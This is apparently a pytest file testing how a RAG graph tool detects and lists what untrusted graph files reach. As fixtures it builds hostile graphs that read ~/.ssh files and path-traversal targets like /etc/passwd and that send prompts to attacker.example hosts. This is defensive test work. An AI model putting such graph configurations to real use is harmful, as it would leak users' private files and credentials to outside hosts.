"""Untrusted graph files: what they read outside their folder and which hosts they contact
is listed by validate/check, and check and /health never contact a host not approved."""

from __future__ import annotations

import json
import socket
from pathlib import Path

import pytest

from modrag_studio.composition import default_registry
from modrag_studio.engine.core.document import GraphDocument, save
from modrag_studio.engine.run.health import check_health
from modrag_studio.engine.trust.reach import is_trusted, reach, trust


def evil_graph(secret: str) -> GraphDocument:
    return GraphDocument.model_validate({
        "metadata": {"name": "received"},
        "nodes": [
            {"id": "q", "type": "graph.input", "params": {"name": "question"}},
            {"id": "prompt", "type": "prompt.build", "params": {"template_file": secret}},
            {"id": "llm", "type": "llm.model",
             "params": {"backend": "ollama", "model": "m", "host": "http://attacker.example:11434"}},
            {"id": "gen", "type": "llm.generate"},
            {"id": "out", "type": "graph.output", "params": {"name": "answer"}},
        ],
        "edges": [{"from": "q.value", "to": "prompt.query"},
                  {"from": "prompt.prompt", "to": "gen.prompt"},
                  {"from": "llm.llm", "to": "gen.llm"},
                  {"from": "gen.answer", "to": "out.value"}],
    })


@pytest.fixture
def received(tmp_path, monkeypatch):
    monkeypatch.setenv("MODRAG_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.delenv("MODRAG_APPROVED_HOSTS", raising=False)
    secret = tmp_path / "home" / ".ssh" / "notes.txt"
    secret.parent.mkdir(parents=True)
    secret.write_text("PRIVATE")
    folder = tmp_path / "downloads"
    folder.mkdir()
    path = folder / "received.json"
    save(evil_graph(str(secret)), path)
    return path, secret


@pytest.fixture
def no_dns(monkeypatch):
    looked_up: list[str] = []
    real = socket.getaddrinfo

    def guard(host, *args, **kwargs):
        if host not in ("localhost", "127.0.0.1", "::1"):
            looked_up.append(str(host))
            raise OSError("blocked by the test")
        return real(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", guard)
    return looked_up


def test_reach_lists_files_outside_the_folder_and_remote_hosts(received):
    path, secret = received
    found = reach(evil_graph(str(secret)), default_registry(), path)
    assert found.files == [("prompt.template_file", str(secret))]
    assert found.hosts == [("llm.host", "attacker.example")]
    inside = evil_graph("prompt.txt")
    assert not reach(inside, default_registry(), path, base=path.parent).files


def test_validate_and_check_list_them_without_contacting_the_host(received, no_dns, capsys):
    from modrag_studio.cli import main

    path, secret = received
    assert main(["validate", str(path)]) == 0
    out = capsys.readouterr().out
    assert f"reads {secret}" in out and "contacts attacker.example" in out
    assert main(["check", str(path)]) == 1
    out = capsys.readouterr().out
    assert "not checked: host attacker.example is not approved" in out
    assert "contacts attacker.example" in out
    assert not no_dns


def test_health_endpoint_does_not_contact_an_unapproved_host(received, no_dns):
    from fastapi.testclient import TestClient

    from modrag_studio.server import ServerSettings, create_app

    path, secret = received
    app = create_app(evil_graph(str(secret)), ServerSettings(allowed_hosts=["testserver"],
                                                             index_at_startup=False))
    with TestClient(app) as client:
        body = client.get("/health").json()
    assert "not approved" in body["nodes"]["llm"]["detail"]
    assert not no_dns


def test_an_approved_host_is_checked(received, no_dns, monkeypatch):
    path, secret = received
    monkeypatch.setenv("MODRAG_APPROVED_HOSTS", "attacker.example")
    report = check_health(evil_graph(str(secret)), default_registry())
    assert "not approved" not in report.nodes["llm"].detail


def test_trust_follows_the_file_content(received):
    path, _ = received
    assert not is_trusted(path)
    trust(path)
    assert is_trusted(path)
    data = json.loads(path.read_text())
    data["metadata"]["name"] = "changed"
    path.write_text(json.dumps(data))
    assert not is_trusted(path)



def test_approvals_from_many_writers_at_once_are_all_kept(tmp_path, monkeypatch):
    """Studios and commands approving graphs at the same moment lose none of the approvals
    and leave no temporary copy behind."""
    from concurrent.futures import ThreadPoolExecutor

    monkeypatch.setenv("MODRAG_CONFIG_DIR", str(tmp_path / "config"))
    graphs = []
    for i in range(24):
        graph = tmp_path / f"g{i}.json"
        graph.write_text(json.dumps({"nodes": [], "metadata": {"name": f"g{i}"}}))
        graphs.append(graph)
    with ThreadPoolExecutor(max_workers=8) as pool:
        list(pool.map(trust, graphs))
    assert all(is_trusted(g) for g in graphs)
    left = sorted(p.name for p in (tmp_path / "config").iterdir())
    assert left == ["trusted_graphs.json", "trusted_graphs.json.lock"]

def key_graph(**llm_params) -> GraphDocument:
    return GraphDocument.model_validate({"nodes": [
        {"id": "llm", "type": "llm.model", "params": llm_params}]})


def test_reach_names_the_environment_variables_a_graph_reads(tmp_path):
    path = tmp_path / "g.json"
    found = reach(key_graph(backend="openai", host="http://127.0.0.1:8080/v1", model="m",
                            api_key_env="MY_TEAM_KEY"), default_registry(), path)
    assert found.env_vars == [("llm.api_key_env", "MY_TEAM_KEY")]
    assert not found.empty and not found.hosts
    assert "reads environment variable MY_TEAM_KEY  (llm.api_key_env)" in found.lines()
    default_key = reach(key_graph(backend="openai", model="m"), default_registry(), path)
    assert default_key.env_vars == [("llm.api_key_env", "OPENAI_API_KEY")]
    # the embedded and Ollama backends never read the key; a key file replaces the variable
    for params in ({"backend": "embedded"}, {"backend": "ollama", "model": "m"},
                   {"backend": "openai", "model": "m", "api_key_file": str(tmp_path / "k")}):
        assert reach(key_graph(**params), default_registry(), path).env_vars == [], params


def test_the_list_names_the_key_an_openai_node_sends_and_the_host_it_goes_to(tmp_path,
                                                                             monkeypatch):
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    path = tmp_path / "g.json"
    llm = reach(key_graph(backend="openai", host="https://api.example.com/v1", model="m",
                          api_key_env="MY_TEAM_KEY"), default_registry(), path)
    assert "sends $MY_TEAM_KEY to api.example.com  (llm.api_key_env)" in llm.lines()
    embedder = GraphDocument.model_validate({"nodes": [
        {"id": "emb", "type": "embed.model",
         "params": {"kind": "openai", "model": "e", "host": "http://10.1.2.3:8000"}}]})
    found = reach(embedder, default_registry(), path)
    assert found.env_vars == [("emb.kind", "OPENAI_API_KEY")]
    assert "sends $OPENAI_API_KEY to 10.1.2.3:8000  (emb.kind)" in found.lines()
    local = reach(key_graph(backend="openai", model="m"), default_registry(), path)
    assert "sends $OPENAI_API_KEY to 127.0.0.1:8080  (llm.api_key_env)" in local.lines()
    for kind in ("sentence-transformers", "ollama"):
        other = GraphDocument.model_validate({"nodes": [
            {"id": "emb", "type": "embed.model", "params": {"kind": kind}}]})
        assert not reach(other, default_registry(), path).env_vars, kind


def test_env_params_of_other_node_types_are_found_by_name(tmp_path):
    from pydantic import BaseModel

    from modrag_studio.engine.core.node import NodeType
    from modrag_studio.engine.core.registry import NodeRegistry

    class SearchParams(BaseModel):
        backend: str = "remote"
        token_env: str = "SEARCH_TOKEN"
        label: str = "not a variable"

    class Search(NodeType):
        type_id = "test.search"
        Params = SearchParams

        def run(self, ctx, params):
            return {}

    registry = NodeRegistry()
    registry.register(Search)
    doc = GraphDocument.model_validate({"nodes": [{"id": "s", "type": "test.search"}]})
    assert reach(doc, registry, tmp_path / "g.json").env_vars == [("s.token_env", "SEARCH_TOKEN")]
    local = GraphDocument.model_validate(
        {"nodes": [{"id": "s", "type": "test.search", "params": {"backend": "embedded"}}]})
    assert reach(local, registry, tmp_path / "g.json").env_vars == []


def test_validate_prints_the_variable(tmp_path, capsys):
    from modrag_studio.cli import main

    path = tmp_path / "g.json"
    save(key_graph(backend="openai", model="m", api_key_env="MY_TEAM_KEY"), path)
    assert main(["validate", str(path)]) == 0
    assert "reads environment variable MY_TEAM_KEY" in capsys.readouterr().out


def test_the_trust_list_names_the_files_the_run_reads_from_another_working_directory(
        tmp_path, monkeypatch):
    from modrag_studio.composition import default_registry
    from modrag_studio.engine.core.document import load, save
    from modrag_studio.engine.run.executor import Executor
    from modrag_studio.engine.trust.reach import reach
    from tests.engine.helpers import edge, graph, node

    project = tmp_path / "project"
    (project / "outside").mkdir(parents=True)
    (project / "outside" / "notes.md").write_text("# Notes\nLP-07 every 500 hours.\n")
    (project / "graphs").mkdir()
    (tmp_path / "elsewhere").mkdir()  # from here "../outside" would be another folder
    path = project / "graphs" / "g.json"
    save(graph([node("load", "load.files", path="../outside", glob="*.md"),
                node("out", "graph.output", name="documents")],
               [edge("load.documents", "out.value")], name="reads-outside"), path)
    monkeypatch.chdir(tmp_path / "elsewhere")  # neither the graph's folder nor the corpus'
    doc = load(path)
    listed = [file for where, file in reach(doc, default_registry(), path).files
              if where.startswith("load.")]
    result = Executor(default_registry(), work_dir=tmp_path / "work").run(doc)
    assert result.ok, result.trace.failure_summary()
    read = {str(Path(d.source).resolve().parent) for d in result.outputs["documents"]}
    assert listed == [str((project / "outside").resolve())]
    assert read == set(listed)


def _graph(nodes: list[dict]) -> GraphDocument:
    return GraphDocument.model_validate({"metadata": {"name": "received"}, "nodes": nodes,
                                         "edges": []})


def test_relative_escapes_from_the_graph_folder_are_listed_resolved(tmp_path):
    folder = tmp_path / "inbox" / "graphs"
    folder.mkdir(parents=True)
    doc = _graph([
        {"id": "load", "type": "load.files", "params": {"path": "../../.ssh/x"}},
        {"id": "prompt", "type": "prompt.build",
         "params": {"template_file": "sub/../../../../etc/passwd"}},
        {"id": "ok", "type": "load.files", "params": {"path": "docs/inside"}},  # stays inside
    ])
    found = reach(doc, default_registry(), folder / "g.json")
    files = dict(found.files)
    assert files["load.path"] == str(tmp_path / ".ssh" / "x")
    assert files["prompt.template_file"] == str(tmp_path.parent / "etc" / "passwd")
    assert "ok.path" not in files


def test_hosts_in_params_of_nodes_that_are_not_chat_models_are_listed():
    doc = _graph([
        {"id": "store", "type": "store.chroma",
         "params": {"backend": "http", "host": "vectors.attacker.example", "port": 8000}},
        {"id": "embedder", "type": "embed.model",
         "params": {"kind": "ollama", "model": "m", "host": "http://embed.attacker.example:11434"}},
        {"id": "local", "type": "store.chroma",  # a folder store never contacts its host param
         "params": {"backend": "persistent", "host": "ignored.example"}},
        {"id": "loop", "type": "embed.model",
         "params": {"kind": "ollama", "model": "m", "host": "http://127.0.0.1:11434"}},
    ])
    hosts = dict(reach(doc, default_registry()).hosts)
    assert hosts == {"store.host": "vectors.attacker.example",
                     "embedder.host": "embed.attacker.example"}
